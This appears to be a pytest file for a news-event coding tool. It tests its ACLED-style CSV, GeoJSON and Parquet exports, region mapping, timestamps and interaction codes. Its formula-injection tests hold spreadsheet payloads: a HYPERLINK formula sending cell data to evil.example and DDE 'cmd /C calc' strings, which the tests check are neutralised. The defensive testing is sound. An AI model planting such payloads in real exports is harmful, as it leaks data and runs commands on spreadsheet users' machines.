"""Exports of the store (acled-csv, GeoJSON, Parquet) and extract's CSV: what each cell holds.

The reports and events here are short ones written for these tests, stored as the coder would
write them; only the Hong Kong test at the end loads the spaCy model.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pycountry
import pytest
from hypothesis import given
from hypothesis import strategies as st

from conftest import CodeText, only
from newsevents.data import acled_regions
from newsevents.link.terms import distinctive_terms
from newsevents.output import Result, Writer, csv_cell
from newsevents.store import NewDocument, Store, content_hash
from newsevents.store.export import COLUMNS, acled_row, export

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# A cell a spreadsheet would run, for each character that starts a formula.
HOSTILE = {
    "outlet": '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "url": "@SUM(1+1)*cmd|' /C calc'!A0",
    "actor1": "+1+cmd|' /C calc'!A0",
    "notes": "-2+3+cmd|' /C calc'!A0",
    "location": "\t=1+1",
    "admin2": "\r=1+1",
}
# Cape Town: both coordinates negative, and they must stay numbers.
CAPE_TOWN = {
    "country": "South Africa",
    "iso3": "ZAF",
    "admin1": "Western Cape",
    "location": "Cape Town",
    "latitude": -33.92584,
    "longitude": 18.42322,
    "geo_precision": 1,
}
SOUTH_OF_RIO = {**CAPE_TOWN, "longitude": -43.2}


def event(event_id: str, day: str, **fields: Any) -> dict[str, Any]:
    """An event record as the coder writes it: a peaceful protest in Cape Town."""
    record: dict[str, Any] = {
        "event_id": event_id,
        "event_date": day,
        "time_precision": 1,
        "event_type": "Protests",
        "sub_event_type": "Peaceful protest",
        "actor1": "Protesters (South Africa)",
        "inter1": 6,
        "interaction": 60,
        **CAPE_TOWN,
        "fatalities": 0,
        "injuries": None,
        "arrests": None,
        "notes": f"On {day}, protesters marched in Cape Town.",
        "evidence": [],
        "claims": [],
        "confidence": 0.6,
        "status": "machine",
    }
    record.update(fields)
    return record


def doc(doc_id: str, published: str, text: str, **fields: Any) -> NewDocument:
    values: dict[str, Any] = {
        "title": text.split(".")[0],
        "url": f"https://news.example/{doc_id}",
        "outlet": "Harbour Gazette",
        **fields,
    }
    return NewDocument(
        doc_id=doc_id,
        content_hash=content_hash(doc_id, text, published),
        published=date.fromisoformat(published),
        text=text,
        terms=distinctive_terms(text),
        **values,
    )


MARCH = (
    "Several hundred dock workers marched along Adderley Street on Tuesday to demand "
    "the reopening of the Quayside canteen, union organisers said."
)
MARCH_AGAIN = (
    "Dock workers who marched along Adderley Street on Tuesday over the Quayside canteen "
    "will meet port managers next week, their union said."
)


def stored(tmp_path: Path, *reports: tuple[NewDocument, list[dict[str, Any]]]) -> list[Any]:
    with Store(str(tmp_path / "t.db")) as store:
        for document, events in reports:
            store.add(document, events)
        return list(store.incidents())


def csv_rows(text: str | Path) -> list[dict[str, str]]:
    """The rows of a CSV text or file (read as written: a carriage return in a cell stays)."""
    if isinstance(text, Path):
        with text.open(encoding="utf-8", newline="") as f:
            return list(csv.DictReader(f))
    return list(csv.DictReader(io.StringIO(text, newline="")))


def assert_no_formula(rows: list[dict[str, str]]) -> None:
    """Every cell that starts like a formula is a number (a negative coordinate)."""
    for row in rows:
        for name, cell in row.items():
            if cell.startswith(FORMULA_START):
                float(cell)  # raises on text: a formula a spreadsheet would run
                assert name in ("latitude", "longitude"), (name, cell)


# ------------------------------------------------------------------ 1. formula injection


@given(st.text() | st.tuples(st.sampled_from(FORMULA_START), st.text()).map("".join))
def test_a_csv_cell_never_starts_a_formula_and_keeps_its_text(text: str) -> None:
    cell = csv_cell(text)
    assert not cell.startswith(FORMULA_START)
    assert cell == text or cell == "'" + text


@pytest.mark.parametrize("number", [-33.9, -18, 0, 2.5])
def test_a_number_is_a_csv_cell_as_it_is(number: float) -> None:
    assert csv_cell(number) == number


def test_acled_csv_neutralises_formulas_and_keeps_negative_coordinates(tmp_path: Path) -> None:
    hostile_doc = {k: HOSTILE[k] for k in ("outlet", "url")}
    hostile_event = {k: HOSTILE[k] for k in ("actor1", "notes", "location", "admin2")}
    records = stored(
        tmp_path,
        (
            doc("=cmd|' /C calc'!A0", "2024-03-13", MARCH, **hostile_doc),
            [event("e-a", "2024-03-12", **(SOUTH_OF_RIO | hostile_event))],
        ),
    )
    out = tmp_path / "i.csv"
    export(records, "acled-csv", str(out))
    [row] = csv_rows(out)
    assert row["source"] == "'" + HOSTILE["outlet"]
    assert row["urls"] == "'" + HOSTILE["url"]
    assert row["doc_ids"] == "'=cmd|' /C calc'!A0"
    for name in ("actor1", "notes", "location", "admin2"):
        assert row[name] == "'" + HOSTILE[name]
    assert (row["latitude"], row["longitude"]) == ("-33.92584", "-43.2")
    assert_no_formula([row])


def test_events_csv_neutralises_formulas(tmp_path: Path) -> None:
    from click.testing import CliRunner

    from newsevents.cli import main

    hostile = event("e-a", "2024-03-12", actor1="@Protesters", **SOUTH_OF_RIO)
    stored(tmp_path, (doc("a", "2024-03-13", MARCH, outlet="-Harbour"), [hostile]))
    out = tmp_path / "events.csv"
    db = str(tmp_path / "t.db")
    result = CliRunner().invoke(main, ["events", "--db", db, "--format", "csv", "-o", str(out)])
    assert result.exit_code == 0, result.output
    [row] = csv_rows(out)
    assert (row["source"], row["actor1"]) == ("'-Harbour", "'@Protesters")
    assert (row["latitude"], row["longitude"]) == ("-33.92584", "-43.2")


def test_extract_csv_neutralises_formulas_and_keeps_negative_coordinates() -> None:
    coded = event("e-a", "2024-03-12", **SOUTH_OF_RIO)
    coded.update({k: HOSTILE[k] for k in ("actor1", "notes", "location", "admin2")})
    coded["sources"] = [{"doc_id": "@x", "url": HOSTILE["url"], "outlet": HOSTILE["outlet"]}]
    stream = io.StringIO()
    writer = Writer("csv", stream)
    writer.write(Result("=1+1", "report.txt", [coded]))
    writer.close()
    [row] = csv_rows(stream.getvalue())
    assert row["doc_id"] == "'=1+1"
    for name in ("actor1", "notes", "location", "admin2"):
        assert row[name] == "'" + HOSTILE[name]
    assert (row["latitude"], row["longitude"]) == ("-33.92584", "-43.2")
    assert json.loads(row["sources"])[0]["outlet"] == HOSTILE["outlet"]  # JSON, starts with [
    assert_no_formula([row])


# ------------------------------------------------------------------ 2. Parquet schema


def test_an_empty_parquet_export_has_the_columns_and_types_of_a_full_one(
    tmp_path: Path,
) -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq

    records = stored(tmp_path, (doc("a", "2024-03-13", MARCH), [event("e-a", "2024-03-12")]))
    export(records, "parquet", str(tmp_path / "one.parquet"))
    export([], "parquet", str(tmp_path / "none.parquet"))
    one = pq.read_schema(tmp_path / "one.parquet")
    none = pq.read_schema(tmp_path / "none.parquet")
    assert len(one) == 49
    assert one.names == none.names
    assert list(one.names[: len(COLUMNS)]) == list(COLUMNS)
    assert one.types == none.types
    kinds = dict(zip(one.names, one.types, strict=True))
    for name in ("year", "inter1", "inter2", "interaction", "iso", "fatalities", "timestamp"):
        assert kinds[name] == pa.int64(), name
    for name in ("geonames_id", "fatalities_low", "injuries", "arrests", "n_sources"):
        assert kinds[name] == pa.int64(), name
    for name in ("latitude", "longitude", "confidence"):
        assert kinds[name] == pa.float64(), name
    for name in ("event_date", "actor2", "assoc_actor_1", "region", "story_id", "evidence"):
        assert kinds[name] == pa.string(), name
    table = pq.read_table(tmp_path / "one.parquet")
    assert table.column("latitude").to_pylist() == [-33.92584]
    assert table.column("interaction").to_pylist() == [60]
    assert json.loads(table.column("sources").to_pylist()[0])[0]["doc_id"] == "a"


# ------------------------------------------------------------------ 3. interaction


def test_the_incident_keeps_its_interaction_in_csv_and_geojson(tmp_path: Path) -> None:
    attack = {
        "event_type": "Violence against civilians",
        "sub_event_type": "Attack",
        "actor1": "Unidentified Armed Group (South Africa)",
        "inter1": 3,
        "actor2": "Civilians (South Africa)",
        "inter2": 7,
        "interaction": 37,
        "fatalities": 1,
    }
    records = stored(
        tmp_path,
        (doc("a", "2024-03-13", MARCH), [event("e-a", "2024-03-12")]),
        (
            doc("b", "2024-04-02", "A shopkeeper was shot dead on Long Street."),
            [event("e-b", "2024-04-01", **attack)],
        ),
    )
    assert [r["interaction"] for r in records] == [60, 37]
    out = tmp_path / "i.csv"
    export(records, "acled-csv", str(out))
    assert [r["interaction"] for r in csv_rows(out)] == ["60", "37"]
    export(records, "geojson", str(tmp_path / "i.geojson"))
    features = json.loads((tmp_path / "i.geojson").read_text(encoding="utf-8"))["features"]
    assert [f["properties"]["interaction"] for f in features] == [60, 37]


def test_the_incident_interaction_is_the_coders_rule_on_its_actor_pair(tmp_path: Path) -> None:
    # Events stored without the derived code (as by hand) still give the incident one.
    bare = event("e-a", "2024-03-12", inter2=1, actor2="Police Forces of South Africa")
    del bare["interaction"]
    [record] = stored(tmp_path, (doc("a", "2024-03-13", MARCH), [bare]))
    assert record["interaction"] == 16


# ------------------------------------------------------------------ 4. region


ACLED_REGIONS = {
    "Western Africa",
    "Middle Africa",
    "Eastern Africa",
    "Southern Africa",
    "Northern Africa",
    "Middle East",
    "South Asia",
    "Southeast Asia",
    "East Asia",
    "Caucasus and Central Asia",
    "Europe",
    "North America",
    "Central America",
    "South America",
    "Caribbean",
    "Oceania",
    "Antarctica",
}


def test_every_country_has_one_of_acleds_regions() -> None:
    regions = acled_regions()
    assert {c.alpha_3 for c in pycountry.countries} <= regions.keys()
    assert set(regions.values()) == ACLED_REGIONS


@pytest.mark.parametrize(
    ("iso3", "region"),
    [
        ("IRN", "Middle East"),
        ("TUR", "Middle East"),
        ("ISR", "Middle East"),
        ("PSE", "Middle East"),
        ("YEM", "Middle East"),
        ("ARM", "Caucasus and Central Asia"),
        ("GEO", "Caucasus and Central Asia"),
        ("UZB", "Caucasus and Central Asia"),
        ("CYP", "Europe"),
        ("RUS", "Europe"),
        ("MEX", "Central America"),
        ("AFG", "South Asia"),
        ("SDN", "Northern Africa"),
        ("SSD", "Eastern Africa"),
        ("COD", "Middle Africa"),
        ("MMR", "Southeast Asia"),
        ("CHN", "East Asia"),
        ("USA", "North America"),
        ("HTI", "Caribbean"),
        ("PNG", "Oceania"),
    ],
)
def test_acleds_own_regions(iso3: str, region: str) -> None:
    assert acled_regions()[iso3] == region


def test_the_row_has_its_countrys_region(tmp_path: Path) -> None:
    records = stored(tmp_path, (doc("a", "2024-03-13", MARCH), [event("e-a", "2024-03-12")]))
    out = tmp_path / "i.csv"
    export(records, "acled-csv", str(out))
    [row] = csv_rows(out)
    assert row["region"] == "Southern Africa"
    assert acled_row({"iso3": None})["region"] is None


# ------------------------------------------------------------------ 5. source and timestamp


def test_source_lists_each_outlet_once_in_acled_style(tmp_path: Path) -> None:
    records = stored(
        tmp_path,
        (doc("a", "2024-03-12", MARCH), [event("e-a", "2024-03-12")]),
        (doc("b", "2024-03-13", MARCH_AGAIN, outlet="Cape Courier"), [event("e-b", "2024-03-12")]),
        (
            doc("c", "2024-03-13", MARCH + " Police watched.", outlet="Harbour Gazette"),
            [event("e-c", "2024-03-12")],
        ),
    )
    [record] = records
    row = acled_row(record)
    assert row["source"] == "Harbour Gazette; Cape Courier"
    assert row["doc_ids"] == "a;b;c"


def test_timestamp_is_when_the_row_changed_in_unix_seconds() -> None:
    record = {
        "iso3": "ZAF",
        "sources": [{"doc_id": "a", "published": "2024-03-12"}],
        "updated_at": 1710345600,
    }
    assert acled_row(record)["timestamp"] == 1710345600


def test_timestamp_without_a_change_time_is_the_latest_publication(tmp_path: Path) -> None:
    latest = int(datetime(2024, 3, 13, tzinfo=UTC).timestamp())
    record = {
        "sources": [
            {"doc_id": "a", "published": "2024-03-13"},
            {"doc_id": "b", "published": "2024-03-12"},
            {"doc_id": "c", "published": None},
        ]
    }
    assert acled_row(record)["timestamp"] == latest
    assert acled_row({"sources": [{"doc_id": "c", "published": None}]})["timestamp"] is None
    records = stored(
        tmp_path,
        (doc("a", "2024-03-12", MARCH), [event("e-a", "2024-03-12")]),
        (doc("b", "2024-03-13", MARCH_AGAIN), [event("e-b", "2024-03-12")]),
    )
    out = tmp_path / "i.csv"
    export(
        [{k: v for k, v in r.items() if k != "updated_at"} for r in records], "acled-csv", str(out)
    )
    [row] = csv_rows(out)
    assert row["timestamp"] == str(latest)
    export(records, "acled-csv", str(out))
    [row] = csv_rows(out)
    assert row["timestamp"].isdigit()  # the store's change time, or the publication's


# ------------------------------------------------------------------ 6. ACLED's countries


HONG_KONG = (
    "Thousands of people marched through Hong Kong on Sunday against a proposed security "
    "law, organisers said. The march ended peacefully in the evening."
)


def test_hong_kong_is_a_division_of_china(code_text: CodeText) -> None:
    ev = only(code_text(HONG_KONG, published=date(2024, 3, 14))).as_dict()
    assert (ev["country"], ev["iso3"], ev["admin1"]) == ("China", "CHN", "Hong Kong")
    row = acled_row({**ev, "sources": []})
    assert (row["iso"], row["region"], row["country"]) == (156, "East Asia", "China")
